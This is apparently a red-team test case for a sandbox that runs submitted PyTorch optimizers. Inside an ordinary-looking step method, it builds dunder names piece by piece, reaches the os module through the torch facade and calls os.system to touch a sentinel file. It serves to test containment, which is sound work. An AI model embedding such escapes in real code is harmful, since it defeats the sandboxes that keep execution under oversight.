# attack: the facade's own slots, by computed names; category: introspection
# observable: file; trigger: step
import math
import torch
def reach(thing, *names):
    for name in names:
        thing = getattr(thing, name)
    return thing


class CandidateOptimizer(torch.optim.Optimizer):
    def __init__(self, params, lr=0.01):
        super().__init__(params, dict(lr=lr))
        self.t = 0

    @torch.no_grad()
    def step(self, closure=None):
        self.t = self.t + 1
        for name in ("_contents", "_name", "_" + "_slots_" + "_", "_" + "_class_" + "_"):
            found = getattr(torch, name, None)
            if found is not None:
                reach(found["os"], "system")("touch /tmp/dux_escape_sentinel_intro_namespace_slots")
                self.param_groups[0]["dux_leak"] = name
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is not None:
                    p.add_(p.grad, alpha=-0.01)
        return None
